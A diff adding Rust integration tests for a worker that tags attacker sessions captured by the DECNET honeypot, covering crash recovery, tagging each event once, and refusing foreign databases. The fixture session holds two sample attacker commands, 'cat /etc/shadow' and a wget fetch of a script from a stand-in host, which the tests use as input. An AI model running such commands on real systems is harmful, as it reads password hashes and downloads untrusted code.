@@ -135,3 +135,163 @@ fn dev_1k_through_nats_gives_decnets_own_rows_in_decnets_sqlite() {
     worker.signal("TERM");
     let _ = worker.wait_exit(Duration::from_secs(10));
 }
+
+/// A session from an address DECNET's `attackers` does not know yet, as the collector
+/// publishes it (`attacker_ip`, no uuid), with commands DECNET's pack tags.
+fn unknown_session() -> (String, String) {
+    let payload = serde_json::json!({
+        "session_id": "sess-late-1", "attacker_uuid": null, "attacker_ip": "198.51.100.77",
+        "decky_id": "decky-1", "service": "ssh",
+        "commands": [{"id": "sess-late-1#0", "command_text": "cat /etc/shadow"},
+                     {"id": "sess-late-1#1", "command_text": "wget http://198.51.100.77/x.sh"}]});
+    let line = serde_json::json!({"topic": "attacker.session.ended", "type": "session.ended",
+        "payload": payload})
+    .to_string();
+    (line, "198.51.100.77".to_owned())
+}
+
+/// What DECNET tags the session with once the address is its attacker's: `ttp-worker tag`
+/// with that pairing in an anchors file (the seed stands for DECNET's table).
+fn tags_once_known(line: &str, ip: &str, attacker: &str, dir: &Path) -> BTreeMap<String, Value> {
+    let anchors = dir.join("anchors.json");
+    fs::write(&anchors, serde_json::json!({ ip: attacker }).to_string()).unwrap_or_default();
+    let mut args = reference_args();
+    let at = args.iter().position(|a| a == "--anchors").unwrap_or(0);
+    args[at + 1] = anchors.display().to_string();
+    let output = std::process::Command::new(env!("CARGO_BIN_EXE_ttp-worker"))
+        .arg("tag")
+        .args(&args)
+        .env_clear()
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .and_then(|mut child| {
+            use std::io::Write as _;
+            child.stdin.take().map(|mut s| s.write_all(line.as_bytes()));
+            child.wait_with_output()
+        })
+        .unwrap_or_else(|e| panic!("{e}"));
+    String::from_utf8_lossy(&output.stdout)
+        .lines()
+        .map(|l| serde_json::from_str::<Value>(l).unwrap_or(Value::Null))
+        .map(|t| (t["uuid"].as_str().unwrap_or_default().to_owned(), t))
+        .collect()
+}
+
+fn rows_by_uuid(db: &str) -> BTreeMap<String, Value> {
+    Decnet::get()
+        .all_tags(db)
+        .into_iter()
+        .map(|t| (t["uuid"].as_str().unwrap_or_default().to_owned(), t))
+        .collect()
+}
+
+/// DECNET drops an event whose attacker has no row yet; the worker holds it, across a
+/// `kill -9`, and writes DECNET's own tags for it, once, when the row appears.
+#[test]
+fn an_attacker_that_appears_later_gets_its_tags_once_across_a_crash() {
+    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let db = dir.path().join("decnet.db").display().to_string();
+    let decnet = Decnet::get();
+    decnet.create(&db);
+    let server = NatsServer::start();
+    let (line, ip) = unknown_session();
+    let attacker = "aaaaaaaa-0000-4000-8000-00000000a77e";
+
+    let mut worker = start_worker(&server, &db, dir.path());
+    publish(&server, std::slice::from_ref(&line));
+    worker.wait_for_log("held 1 messages");
+    assert!(
+        rows_by_uuid(&db).is_empty(),
+        "DECNET got tags without an attacker"
+    );
+    worker.signal("KILL");
+    let _ = worker.wait_exit(Duration::from_secs(5));
+
+    let mut worker = start_worker(&server, &db, dir.path());
+    decnet.add_attacker(&db, &ip, attacker);
+    let want = tags_once_known(&line, &ip, attacker, dir.path());
+    assert!(want.len() >= 2, "{want:#?}");
+    let deadline = Instant::now() + PATIENCE;
+    let mut stored = rows_by_uuid(&db);
+    while stored.len() < want.len() && Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(200));
+        stored = rows_by_uuid(&db);
+    }
+    assert_eq!(
+        stored.keys().collect::<Vec<_>>(),
+        want.keys().collect::<Vec<_>>(),
+        "log:\n{}",
+        worker.log_text()
+    );
+    for (uuid, row) in &stored {
+        assert_eq!(row["attacker_uuid"], attacker, "{uuid}");
+        assert_eq!(row["source_id"], want[uuid]["source_id"], "{uuid}");
+        assert_eq!(row["evidence"], want[uuid]["evidence"], "{uuid}");
+    }
+
+    // The same message again, and another crash: still one row per tag.
+    publish(&server, std::slice::from_ref(&line));
+    worker.wait_for_log("wrote 0 new rows");
+    worker.signal("KILL");
+    let _ = worker.wait_exit(Duration::from_secs(5));
+    let mut worker = start_worker(&server, &db, dir.path());
+    publish(&server, std::slice::from_ref(&line));
+    std::thread::sleep(Duration::from_millis(500));
+    assert_eq!(rows_by_uuid(&db).len(), want.len());
+    worker.signal("TERM");
+    let _ = worker.wait_exit(Duration::from_secs(10));
+}
+
+/// The worker never creates or alters DECNET's tables: a database without `ttp_tag`, or a
+/// path with no database, stops it at start with exit status 2 and a line that says so.
+#[test]
+fn a_database_that_is_not_decnets_stops_the_worker_with_exit_2() {
+    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let not_decnet = dir.path().join("other.db");
+    {
+        let conn = rusqlite::Connection::open(&not_decnet).unwrap_or_else(|e| panic!("{e}"));
+        conn.execute_batch(
+            "CREATE TABLE attackers (uuid TEXT PRIMARY KEY, ip TEXT);
+             CREATE TABLE attacker_identities (uuid TEXT PRIMARY KEY);",
+        )
+        .unwrap_or_else(|e| panic!("{e}"));
+    }
+    let missing = dir.path().join("nowhere.db");
+    for (path, says) in [
+        (&not_decnet, "no table ttp_tag, attacker_intel"),
+        (&missing, "no DECNET database at"),
+    ] {
+        let local = dir.path().join("ttp.db").display().to_string();
+        let path_text = path.display().to_string();
+        let mut worker = Worker::start(
+            &["--no-bus"],
+            &[
+                ("DECNET_DB_PATH", path_text.as_str()),
+                ("DECNET_TTP_DB", local.as_str()),
+            ],
+        );
+        let status = worker.wait_exit(Duration::from_secs(10));
+        assert_eq!(
+            status.and_then(|s| s.code()),
+            Some(2),
+            "{}",
+            worker.log_text()
+        );
+        let log = worker.log_text();
+        assert!(log.contains(says), "{log}");
+        assert!(log.contains("ttp_tag") || path == &missing, "{log}");
+    }
+    // Nothing was created or changed.
+    assert!(!missing.exists());
+    let conn = rusqlite::Connection::open(&not_decnet).unwrap_or_else(|e| panic!("{e}"));
+    let tables: i64 = conn
+        .query_row(
+            "SELECT COUNT(*) FROM sqlite_schema WHERE type = 'table'",
+            [],
+            |r| r.get(0),
+        )
+        .unwrap_or_default();
+    assert_eq!(tables, 2);
+}
